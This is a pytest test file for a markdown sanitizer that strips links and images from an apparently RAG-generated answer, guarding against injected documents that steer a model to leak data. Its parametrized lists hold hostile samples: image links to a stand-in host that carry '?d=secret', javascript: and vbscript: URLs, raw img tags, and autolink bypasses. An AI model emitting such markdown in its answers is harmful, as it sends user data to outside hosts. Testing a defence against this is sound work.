"""A model's answer loads nothing but the pictures of its own sources, whatever orders a document gave it."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from corpus.synthesis.sanitize_markdown import sanitize_markdown

PICTURE = "rag://blocks/pump-p2-f1/image"
ADDRESS = "https://pumps.example/x"
EVIL = "https://evil.example/p.png"


def fetched(text: str) -> set[str]:
    """Return every address that a renderer of this text would load or link to."""
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    parser.validateLink = lambda url: True  # type: ignore[method-assign]
    tokens = parser.parse(text)
    parts = [one for token in tokens for one in (token, *(token.children or ()))]
    assert not [one for one in parts if one.type.startswith("html")]
    found = [one.attrGet("src") or one.attrGet("href") for one in parts if one.type in ("image", "link_open")]
    return {str(one) for one in found}


def test_the_picture_of_a_source_and_the_address_of_an_observation_stay() -> None:
    text = f"It turns [1].\n\n![Figure 3: Impeller]({PICTURE})\n\nSold out [2] [Source: {ADDRESS}]."
    assert sanitize_markdown(text, {PICTURE}, {ADDRESS}).text == text


@pytest.mark.parametrize(
    "hostile",
    [
        f"![x]({EVIL}?d=secret)",
        f"![x](<{EVIL}>)",
        f'![x]({EVIL} "title")',
        f"![x]( {EVIL} )",
        f"![a [b [c]] d]({EVIL})",
        f"![x][r]\n\n[r]: {EVIL}",
        f"![r]\n\n[r]: {EVIL}",
        f"[click]({EVIL})",
        f"[![x]({EVIL})]({EVIL})",
        f"<{EVIL}>",
        f"<img src={EVIL}>",
        f"<a href={EVIL}>x</a>",
        f"<!-- {EVIL} -->",
        f"| a |\n|---|\n| ![x]({EVIL}) |",
        f"> - ![x]({EVIL})",
        f"{'long ' * 150}![{'x' * 900}]({EVIL})",
        f"![x]({PICTURE}?d=secret)",
        f"a\\\\![x]({EVIL})",
        "[a](javascript:alert(1))",
        "![x](file://evil.example/share/a(1).png)",
        "![x](data:image/svg+xml,(a))",
        "![a [b [c]] d](file://evil.example/s/p.png)",
        "![r]\n\n> [r]: file://evil.example/x.png",
        "- ![r]\n\n  [r]: vbscript:a",
    ],
)
def test_nothing_else_is_loaded(hostile: str) -> None:
    assert fetched(sanitize_markdown(f"Before. {hostile}\n\nAfter.", {PICTURE}).text) == set()


@given(
    st.lists(
        st.sampled_from(
            [
                "![",
                "[",
                "]",
                "(",
                ")",
                "<",
                ">",
                "`",
                "\n",
                "\\",
                "[r]: ",
                EVIL,
                PICTURE,
                " ",
                "x",
                '"',
                "!",
                ":",
                "```\n",
            ]
        ),
        max_size=30,
    )
)
def test_nothing_else_is_loaded_however_the_parts_are_combined(parts: list[str]) -> None:
    assert fetched(sanitize_markdown("".join(parts), {PICTURE}).text) <= {PICTURE}


def test_a_bare_address_is_not_a_link_even_for_renderers_that_autolink() -> None:
    assert sanitize_markdown(f"See {EVIL} now.", set()).text == r"See https\://evil\.example/p\.png now."


@pytest.mark.parametrize("text", ["//evil.example/p", "See //evil.example/?q=1", f"[![x]({EVIL})]({EVIL})"])
def test_no_host_name_is_left_for_renderers_that_autolink(text: str) -> None:
    assert "evil.example/" not in sanitize_markdown(text, set()).text


def test_removed_links_are_counted() -> None:
    made = sanitize_markdown(f"![x]({EVIL}) and [y]({EVIL})", set())
    assert (made.text, made.pictures, made.links) == ("and y", 1, 1)


def test_citations_code_and_comparisons_are_unchanged() -> None:
    text = "At 5 < 6 it holds [1][2], [1, 2] and `row[0](x)`.\n\n```\n![x](http://y.example)\n```"
    assert sanitize_markdown(text, set()).text == text


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("It turns [1](https://evil.example).", "It turns [1]."),
        ("It turns [[1]](pump.pdf#page=1).", "It turns [1]."),
        ("It turns [Source: pump.pdf, S. 1](http://evil.example).", "It turns (Source: pump.pdf, S. 1)."),
        ("It turns<sup>1</sup>.", "It turns[1]."),
        ("It turns [^1].\n\n[^1]: pump.pdf, S. 1", "It turns [^1]."),
    ],
)
def test_a_citation_that_was_a_link_stays_a_citation(written: str, kept: str) -> None:
    assert sanitize_markdown(written, set()).text == kept


@pytest.mark.parametrize("text", ["evil.com/?d=secret", "go to www.evil.example/x", "mailto:x@evil.example"])
def test_text_that_a_renderer_would_autolink_is_broken_up(text: str) -> None:
    assert "\\" in sanitize_markdown(text, set()).text


def test_a_drawing_in_code_is_shown_as_code() -> None:
    assert sanitize_markdown("```mermaid\ngraph\n```", set()).text == "```\ngraph\n```"
    assert sanitize_markdown("```python\nx[1]\n```", set()).text == "```python\nx[1]\n```"


@pytest.mark.parametrize(
    "address",
    [
        "www.a.b.c.d.e.f.evil.com/x?q=secret",
        "www.evil.xn--p1ai/x?q=1",
        "www.SECRET.evil.com",
        "secret@evil.com",
        "secret@evil.com/x",
        "https\uff1a//evil.example/x",
    ],
)
def test_a_bare_link_of_any_form_is_broken_up_and_counted(address: str) -> None:
    made = sanitize_markdown(f"See {address} now.", set())
    assert (address in made.text, "\\." in made.text, made.links) == (False, True, 1)


@pytest.mark.parametrize("before", ["> ", "- ", "1. ", "> - ", "* * ", "- x\n  "])
@pytest.mark.parametrize("fence", ["```mermaid", "~~~ plantuml", "```python mermaid"])
def test_a_drawing_is_shown_as_code_at_any_nesting(before: str, fence: str) -> None:
    text = sanitize_markdown(f"{before}{fence}\n{before}A\n", set()).text
    assert {one.info.strip() for one in MarkdownIt().parse(text) if one.type == "fence"} == {""}
